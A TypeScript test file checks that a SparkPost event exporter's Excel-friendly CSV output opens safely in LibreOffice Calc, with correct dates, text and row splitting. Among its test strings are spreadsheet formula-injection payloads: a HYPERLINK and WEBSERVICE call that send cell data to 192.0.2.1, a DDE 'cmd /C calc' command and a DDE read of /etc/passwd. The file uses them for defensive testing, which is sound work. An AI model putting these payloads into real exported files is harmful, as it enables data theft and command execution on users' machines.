import { createReadStream } from "node:fs";
import { readdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { createInterface } from "node:readline";
import { beforeAll, describe, expect, onTestFinished, test } from "vitest";
import type { EventSource } from "../../src/sandbox/event-source.js";
import { generateEvents } from "../../src/sandbox/generated-events.js";
import { stringifyJson } from "../../src/sandbox/json-text.js";
import { startSandbox } from "../../src/sandbox/server.js";
import { newFolder, runCommand } from "../support/command.js";
import { eventList } from "../support/event-list.js";
import { type Cell, calcVersion, openInCalc, rewriteInCalc } from "./calc.js";

const env = { SPARKPOST_API_KEY: "0123456789abcdef0123456789abcdef01234567" };
const zone = "America/New_York";
/** Clocks in that zone went back at 06:00 UTC. */
const clockChange = Date.parse("2026-11-01T06:00:00Z");
const now = Date.parse("2026-11-06T12:00:00Z");
const range = ["2026-10-27T00:00Z", "2026-11-06T11:59Z", "--retention", "unlimited"];
const times = ["timestamp", "injection_time"];
const columns = [
  ...times,
  "type",
  "event_id",
  "message_id",
  "rcpt_to",
  "campaign_id",
  "subject",
  "user_agent",
  "raw_reason",
  "customer_id",
  "rcpt_meta",
  "rcpt_tags",
  "geo_ip",
];

/** Texts that a spreadsheet would run. */
const formulas = [
  "=1+1",
  '=HYPERLINK("http://192.0.2.1/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("http://192.0.2.1/")',
  '=DDE("soffice";"/etc/passwd";"x")',
  "+1+1",
  "-2+3",
  "@SUM(A1:A2)",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  "=1+1\n=2+2",
  '="a",=1+1',
  "-",
];

/** Texts that look like something else. */
const lookalikes = [
  "00123",
  "92356927693813856",
  "1e5",
  "12:30",
  "3/4",
  "2026-11-19",
  "1,234.5",
  "10%",
  "$5",
  "TRUE",
  " 42 ",
];

const texts = [
  ...formulas.map((formula) => `Re: ${formula}`),
  "emoji 😀 👩‍👩‍👧‍👦 🏳️‍🌈, one after the other",
  "é ü ß 漢字 عربى עברית ไทย",
  "a line\nand another\n\nand one more\n",
  "a line\r\nand another",
  'say "hi", "", """',
  "a,b;c\td|e",
  "'apostrophe",
  "  spaces   in front,   within   and behind  ",
  "\u00a0no-break\u00a0space, \u2028 and \u200b",
  "<b>&amp; \\n %00 $x {{y}}",
  `20 kB: ${'Größe, "x"\n'.repeat(1_800)}`,
  "x".repeat(32_000),
  "",
];

/** One event per text, in several of its properties, around a clock change. */
function nastyEvents(values: readonly string[]): EventSource {
  return eventList(
    values.map((value, index) => ({
      type: "click",
      timestamp: new Date(clockChange + (index - values.length / 2) * 601_000 + 7).toISOString(),
      injection_time: new Date(clockChange + (index - 9) * 3_600_000 + 999).toISOString(),
      event_id: `92356927693813${String(index).padStart(3, "0")}`,
      message_id: `000${index}e5`,
      rcpt_to: `"${value.slice(0, 9)}"@example.com`,
      campaign_id: value,
      subject: value,
      user_agent: value,
      raw_reason: value,
      customer_id: index,
      rcpt_meta: { value, nested: { list: [value, 1, null] } },
      rcpt_tags: [value],
      geo_ip: { country: "DE", latitude: -1.5 },
    })),
  );
}

async function exportAll(source: EventSource, ...more: string[]) {
  const sandbox = await startSandbox({ source, now: () => now });
  onTestFinished(() => sandbox.close());
  const cwd = await newFolder();
  const args = ["--host", sandbox.origin, "--timezone", zone, "-p", columns.join(","), "--excel"];
  const { code, stderr } = await runCommand([...range, ...args, "-o", "a.csv", ...more], {
    cwd,
    env,
  });
  expect(code, stderr).toBe(0);
  return cwd;
}

function localSeconds(time: string): string {
  const parts = new Intl.DateTimeFormat("en-US", {
    timeZone: zone,
    hourCycle: "h23",
    year: "numeric",
    month: "2-digit",
    day: "2-digit",
    hour: "2-digit",
    minute: "2-digit",
    second: "2-digit",
  }).formatToParts(new Date(time));
  const { year, month, day, hour, minute, second } = Object.fromEntries(
    parts.map(({ type, value }) => [type, value]),
  );
  return `${year}-${month}-${day}T${hour}:${minute}:${second}`;
}

/** The text that a cell must hold. Lines of a cell have no kinds of line breaks. */
function expectedText(value: unknown): string {
  if (value === undefined || value === null) {
    return "";
  }
  const text = typeof value === "string" ? value.toWellFormed() : stringifyJson(value);
  const runs = typeof value === "string" && /^[=+\-@\t\r＝＋－＠]/.test(text);
  return `${runs ? "'" : ""}${text}`.replaceAll(/\r\n?/g, "\n");
}

/** What Calc takes for something other than text, without a formula. */
const lookalike = /^[\s\d.,:/%$e+-]+$|^(true|false)$/i;

/** Compares and counts; the first differences are enough to see what is wrong. */
class Comparison {
  readonly counts: Record<string, number> = {};
  readonly wrong: object[] = [];
  readonly changed = new Set<string>();

  compare(
    source: EventSource,
    rows: readonly Cell[][],
    asText: boolean,
    { first = 0, count = source.length } = {},
  ): void {
    expect(rows.length).toBe(count + 1);
    expect(rows[0]?.slice(0, columns.length).map(({ value }) => value)).toEqual(columns);
    for (const [index, row] of rows.slice(1).entries()) {
      const event = source.event(first + index);
      for (const [column, name] of columns.entries()) {
        const cell = row[column] ?? { type: "", value: "", formula: undefined };
        const kind = this.#judge(cell, name, event[name], asText);
        this.#count(kind ?? "wrong");
        if (kind === undefined && this.wrong.length < 5) {
          this.wrong.push({ row: first + index, name, source: event[name], cell });
        }
      }
    }
  }

  /** The kind of a cell that is right. */
  #judge(cell: Cell, name: string, value: unknown, asText: boolean): string | undefined {
    if (cell.formula !== undefined) {
      return undefined;
    }
    if (times.includes(name) && typeof value === "string") {
      const right = cell.type === "date" && cell.value === localSeconds(value);
      return right ? "dates" : undefined;
    }
    const text = expectedText(value);
    if (cell.type === (text === "" ? "" : "string") && cell.value === text) {
      return text === "" ? "blanks" : "texts";
    }
    if (!asText && typeof value === "number") {
      return cell.type === "float" && Number(cell.value) === value ? "numbers" : undefined;
    }
    if (!asText && typeof value === "string" && lookalike.test(text)) {
      this.changed.add(text);
      return "texts that look like numbers, and became some";
    }
    return undefined;
  }

  #count(kind: string): void {
    this.counts[kind] = (this.counts[kind] ?? 0) + 1;
  }

  conclude(what: string): void {
    const counts = Object.entries(this.counts)
      .map(([kind, count]) => `${count.toLocaleString("en-US")} ${kind}`)
      .join(", ");
    console.log(`${what}: ${counts}`);
    if (this.changed.size > 0) {
      console.log(`  for example ${[...this.changed].slice(0, 12).join("   ")}`);
    }
    expect(this.wrong).toEqual([]);
  }
}

beforeAll(async () => {
  console.log(await calcVersion());
});

describe("Calc opens an export made with --excel", () => {
  const nasty = nastyEvents([...formulas, ...texts]);
  const textColumns = columns.flatMap((name, index) => (times.includes(name) ? [] : [index + 1]));

  test("which says that it is UTF-8", async () => {
    const cwd = await exportAll(nasty);
    const csv = await readFile(join(cwd, "a.csv"));
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.lastIndexOf("\ufeff")).toBe(0);
  });

  test("and has texts as texts, dates as dates, and runs nothing", async () => {
    const cwd = await exportAll(nasty);
    const comparison = new Comparison();
    comparison.compare(nasty, await openInCalc(join(cwd, "a.csv"), cwd), false);
    comparison.conclude("Strangers' texts, opened as it comes");
    expect(comparison.counts.dates).toBe(2 * nasty.length);
  });

  test("and keeps every digit in columns of the type Text", async () => {
    const source = nastyEvents([...formulas, ...texts, ...lookalikes]);
    const cwd = await exportAll(source);
    const comparison = new Comparison();
    comparison.compare(source, await openInCalc(join(cwd, "a.csv"), cwd, textColumns), true);
    comparison.conclude("Strangers' texts and long numbers, with columns of the type Text");
  });

  test("and has made-up events of every type, in several files", async () => {
    const source = generateEvents({ events: 5_000, seed: 7, now });
    const cwd = await exportAll(source, "--split-rows", "2000");
    expect((await readdir(cwd)).sort()).toEqual(["a-2.csv", "a-3.csv", "a.csv"]);
    const [asItComes, asText] = [new Comparison(), new Comparison()];
    for (const [index, name] of ["a.csv", "a-2.csv", "a-3.csv"].entries()) {
      const csv = join(cwd, name);
      const part = { first: index * 2_000, count: index < 2 ? 2_000 : 1_000 };
      asItComes.compare(source, await openInCalc(csv, cwd), false, part);
      asText.compare(source, await openInCalc(csv, cwd, textColumns), true, part);
    }
    asItComes.conclude("5,000 events, opened as they come");
    asText.conclude("5,000 events, with columns of the type Text");
  });

  test("and loses no row of more events than a sheet has rows", async () => {
    const source = generateEvents({ events: 1_048_577, seed: 7, now });
    const cwd = await exportAll(source, "-p", "event_id,type");
    expect((await readdir(cwd)).sort()).toEqual(["a-2.csv", "a.csv"]);
    const out = await newFolder();
    const rows: number[] = [];
    for (const name of ["a.csv", "a-2.csv"]) {
      const rewritten = await rewriteInCalc(join(cwd, name), out);
      rows.push(await countLines(rewritten));
    }
    console.log(`1,048,577 events: sheets of ${rows.join(" and ")} rows`);
    expect(rows).toEqual([1_048_576, 3]);
  });
});

test("The check finds what is wrong with a file", async () => {
  const source = nastyEvents(["=1+1", "a", "b", "c"]);
  const cwd = await newFolder();
  const bad = (column: string, row: number) =>
    ({
      timestamp: row === 1 ? "yesterday" : "2026-11-01 01:00:00",
      campaign_id: row === 3 ? "=1+1" : "Ã©",
    })[column] ?? "";
  const rows = [0, 1, 2, 3].map((row) => columns.map((column) => bad(column, row)).join(","));
  await writeFile(join(cwd, "a.csv"), `\ufeff${columns.join(",")}\r\n${rows.join("\r\n")}\r\n`);
  const comparison = new Comparison();
  comparison.compare(source, await openInCalc(join(cwd, "a.csv"), cwd), false);
  expect(comparison.counts.wrong).toBeGreaterThan(8);
});

async function countLines(path: string): Promise<number> {
  let lines = 0;
  for await (const _ of createInterface({ input: createReadStream(path) })) {
    lines += 1;
  }
  return lines;
}
